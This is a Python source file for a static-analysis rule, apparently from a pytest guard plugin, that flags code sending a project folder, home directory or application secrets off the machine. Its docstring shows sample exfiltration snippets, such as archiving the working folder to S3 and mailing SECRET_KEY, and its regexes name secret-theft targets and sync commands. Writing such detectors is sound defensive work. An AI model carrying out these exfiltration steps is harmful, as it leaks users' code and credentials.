"""SMG281: the project itself, a home folder or the keys of an application leave the machine."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from typing import TYPE_CHECKING

from pytest_selfmod_guard import paths
from pytest_selfmod_guard.model import Risk
from pytest_selfmod_guard.rules import Sighting, python_rule
from pytest_selfmod_guard.rules.danger._flow_words import SENDERS

if TYPE_CHECKING:
    import libcst as cst

    from pytest_selfmod_guard.syntax import Call, Python

_UPLOADS = frozenset(
    (
        "upload_file", "upload_fileobj", "put_object", "fput_object", "upload_from_filename",
        "upload_from_file", "upload_from_string", "upload_blob", "storbinary", "sendmail",
        "send_message", "files_upload", "files_put", "putfo", "upload_file_from_path",
        "send_document", "sendDocument", "upload", "attach_file", "add_attachment", "attach",
        "multipart_upload", "set_contents_from_filename", "put_file", "upload_large",
    )
)  # fmt: skip
_POSTS = re.compile(r"(?:requests|httpx|aiohttp|urllib3)\.(?:[\w.]*\.)?(?:post|put|request|patch)")
_TELLS = frozenset(
    (*_UPLOADS, "set_content", "send_mail", "mail_admins", "EmailMessage", "MIMEText", "send",
     "post", "put", "patch", "EmailMultiAlternatives", "send_email", "sendall", "sendto", "publish",
     "urlopen", "Request", "send_photo", "chat_postMessage", "add_alternative", "captureMessage",
     "capture_message")
)  # fmt: skip
_QUIET = frozenset(("headers", "auth", "cert", "cookies", "params_auth", "timeout", "verify"))
_CORE = re.compile(
    r"(?:^|\.)(?:SECRET_KEY|secret_key|DATABASES|DATABASE_URL|database_url|SQLALCHEMY_DATABASE_URI"
    r"|DB_PASSWORD|db_password|JWT_SECRET\w*|jwt_secret\w*|SECRET_KEY_FALLBACKS|SIGNING_KEY|signing_key"
    r"|DATABASE_PASSWORD|database_password)(?:\.|$)"
)
_SETTINGS = r"(?:\b(?:current_app|app)\.config|\b(?:django_)?settings|\bget_settings\(\))"
_WHOLE = re.compile(
    rf"{_SETTINGS}\.(?:model_dump(?:_json)?|dict|json|__dict__|_wrapped|as_dict)\b"
    rf"|\b(?:dict|vars|repr|str|asdict|dumps)\(\s?{_SETTINGS}\s?[,)]"
    r"|\b(?:dict|repr|str|dumps)\(\s?(?:dict\(\s?)?(?:current_app|app)\.config\b(?!\[|\.)"
)
_WIDE = re.compile(
    r"os\.getcwd\(\)|\bcwd\(\)|Path\.home\(\)|expanduser\(\s?['\"]~[/'\"]|environ(?:\.get\(|\[)\s?['\"](?:HOME"
    r"|USERPROFILE)['\"]"
    r"|dirname\((?:os\.path\.)?(?:abspath\(|dirname\(|realpath\()*__file__|\bPath\(\s?(?:['\"]\.{1,2}['\"])?\s?\)"
    r"|Path\(__file__\)(?:\.resolve\(\))?\.parents?|curdir|Path\(\s?['\"][~/]['\"]\s?\)"
    r"|settings\.BASE_DIR|\bBASE_DIR$|\bPROJECT_ROOT$|\bREPO_ROOT$"
)
_BASES = re.compile(r"\.{1,2}/?|~/?|/|/(?:home|root|srv|etc)/?")
_WALKS = frozenset(("walk", "rglob", "glob", "iglob", "fwalk", "scandir", "listdir"))
_ARCHIVES = re.compile(r"\bgit['\",\s]+(?:archive|bundle)\b|\btar['\",\s]+-?c\w*\b")
_SYNCS = re.compile(
    r"(?:aws['\",\s]+s3['\",\s]+(?:sync|cp|mv)|gsutil['\",\s]+(?:-m['\",\s]+)?(?:cp|rsync)|rclone['\",\s]+(?:copy|sync)"
    r"|gcloud['\",\s]+storage['\",\s]+(?:cp|rsync)|az['\",\s]+storage['\",\s]+blob['\",\s]+upload[\w-]*|rsync|scp)"
    r"['\",\s]+(?:-\S+['\",\s]+){0,6}(?:--recursive['\",\s]+)?(?:\.|\./|~|~/|/|\$HOME|/home|/root|\.\.)/?['\",\s]"
)
_SOURCES = re.compile(r"\.py\b|\*\*?/?['\"]|['\"]\*['\"]|\.env\b|\.pem\b|\.key\b")
_SYNCING = re.compile(r"\b(?:aws|gsutil|rclone|gcloud|az|rsync|scp)\b")
_STARTS = frozenset(("run", "check_output", "Popen", "call", "check_call", "system", "popen"))
_LONG = 4000


@python_rule(
    "SMG281",
    risk=Risk.HIGH,
    hint="send the one file that is meant, out of a folder made for it; source code, home folders "
    "and the keys of the application stay where they are",
    triggers=(*SENDERS, *(name.lower().encode() for name in (*_UPLOADS, *_TELLS))),
)
def project_sent_out(python: Python) -> Iterable[Sighting]:
    """
    Source code, a whole home folder, or the keys of an application are sent away.

    The working folder or a home is packed, or walked through, by a function
    that uploads to a store in a cloud, by FTP, by mail or a request; or the
    key that signs sessions, the databases' addresses or all settings stand in
    what is mailed or posted. A person is to look: backups are honest.

    Flagged: the working folder, into a bucket
        === shop/stats.py
          import os, tarfile, boto3
          def snapshot():
        +     with tarfile.open("/tmp/s.tgz", "w:gz") as packed:
        +         packed.add(os.getcwd())
        +     boto3.client("s3").upload_file("/tmp/s.tgz", "bucket", "s.tgz")

    Flagged: the key of the application, by mail
        === shop/apps.py
          import smtplib
          from email.message import EmailMessage
          from django.conf import settings
          def ready():
              mail = EmailMessage()
        +     mail.set_content(settings.SECRET_KEY + repr(settings.DATABASES))
              smtplib.SMTP("mx.example.invalid").send_message(mail)

    Flagged: by a command
        === shop/stats.py
          import subprocess
          def snapshot():
        +     subprocess.run(["aws", "s3", "sync", ".", "s3://bucket"])

    Allowed: reports, and a key to log in with
        === shop/backup.py
          import shutil, boto3, requests
          from shop.config import settings
          def backup():
        +     packed = shutil.make_archive("/tmp/reports", "zip", "var/reports")
        +     boto3.client("s3").upload_file(packed, settings.bucket, "reports.zip")
        +     requests.post(settings.url, headers={"X-Key": settings.api_key}, json={"done": True})
    """
    if paths.zone(python.path) == paths.TEST:
        return
    for call, what in (*_packed(python), *_told(python)):
        said = f"{what} leaves the machine here"
        code = python.code(call.node)
        yield Sighting(python.line(call.node), said, code, call.scope, settled_by="review")


def _packed(python: Python) -> Iterator[tuple[Call, str]]:
    """Give the uploads of functions that gather a whole folder, and commands that do both."""
    gathers = {call.scope for call in python.calls if _gathers(python, call)}
    is_command = _SYNCING.search(python.text) is not None
    for call in python.calls:
        if is_command and _last(call) in _STARTS and _SYNCS.search(python.code(call.node)[:_LONG]):
            yield call, "a whole folder"
        elif gathers and _is_upload(python, call) and _meets(python, call.scope, gathers):
            yield call, "what was gathered from a whole folder"


def _meets(python: Python, scope: str, gathers: set[str]) -> bool:
    """Tell whether a function gathers itself, or calls one that does, or is called by one."""
    if scope in gathers:
        return True
    names = {place.rpartition(".")[2] for place in gathers} - {""}
    here = scope.rpartition(".")[2]
    for call in python.calls:
        called = _last(call)
        if (call.scope == scope and called in names) or (call.scope in gathers and called == here):
            return True
    return False


def _last(call: Call) -> str:
    from pytest_selfmod_guard.rules.danger._flow_edges import (  # noqa: PLC0415 (imports libcst)
        called_name,
    )

    return called_name(call.node)


def _is_upload(python: Python, call: Call) -> bool:
    if not call.node.args:
        return False
    last = _last(call)
    if any(_POSTS.fullmatch(name) for name in call.names):
        return any(arg.keyword and arg.keyword.value in _BODY for arg in call.node.args)
    if last == "put":
        return "paramiko" in python.text or "sftp" in python.code(call.node.func).lower()
    return last in _UPLOADS or (last == "send" and "smtp" in python.text.lower())


_KEPT = re.compile(
    r"(?i)secret_key|databases\b|database_(?:url|uri|password)|db_password|jwt_secret|signing_key"
    r"|app\.config|settings"
)
_BODY = frozenset(("data", "files", "content", "json", "body"))


def _gathers(python: Python, call: Call) -> bool:
    """Tell whether a call packs or walks through the working folder, the project or a home."""
    last = _last(call)
    args = call.node.args
    if last == "make_archive":
        base = call.arg(python, 2, "root_dir")
        return base is None or _is_wide(python, base)
    if last in ("add", "write") and args and ("tarfile" in python.text or "zipfile" in python.text):
        return _is_wide(python, args[0].value)
    if last in _STARTS:
        return _ARCHIVES.search(python.code(call.node)[:_LONG]) is not None
    return last in _WALKS and _walks(python, call)


def _walks(python: Python, call: Call) -> bool:
    import libcst as cst  # noqa: PLC0415 (rarely needed)

    args = call.node.args
    if any(name.startswith(("os.", "glob.")) for name in call.names):
        return bool(args) and _is_wide(python, args[0].value)
    owner = call.node.func.value if isinstance(call.node.func, cst.Attribute) else None
    if owner is None or not _is_wide(python, owner):
        return False
    return _SOURCES.search(python.code(call.node)) is not None


def _is_wide(python: Python, node: cst.BaseExpression) -> bool:
    import libcst as cst  # noqa: PLC0415

    from pytest_selfmod_guard.rules.danger._wording import bound  # noqa: PLC0415

    made = bound(python, node) if isinstance(node, cst.Name) else None
    if isinstance(known := python.fold(node), str):
        return _BASES.fullmatch(known) is not None
    return any(_WIDE.search(python.code(one)) for one in (node, made) if one is not None)


def _told(python: Python) -> Iterator[tuple[Call, str]]:
    """Give what is mailed or posted with the keys of the application in it."""
    if not _KEPT.search(python.text) or not _OUT.search(python.text):
        return
    for call in python.calls:
        if _last(call) not in _TELLS:
            continue
        for arg in call.node.args:
            if arg.keyword is not None and arg.keyword.value in _QUIET:
                continue
            code = python.code(arg.value)[:_LONG]
            if _WHOLE.search(code) or any(_CORE.search(name) for name in _origins(python, arg)):
                yield call, "what keeps the application safe"
                break


def _origins(python: Python, arg: cst.Arg) -> frozenset[str]:
    return python.origins(arg.value, _PASSED)


_PASSED = frozenset(("jwt.encode", "*.sign", "*.dumps", "hmac.new", "*.encode_token"))
_OUT = re.compile(
    r"\b(?:smtplib|aiosmtplib|yagmail|requests|httpx|aiohttp|urllib|urllib3|socket|boto3|paramiko|ftplib"
    r"|telegram|slack_sdk|sentry_sdk|send_mail|mail_admins|flask_mail|google\.cloud|azure)\b"
)
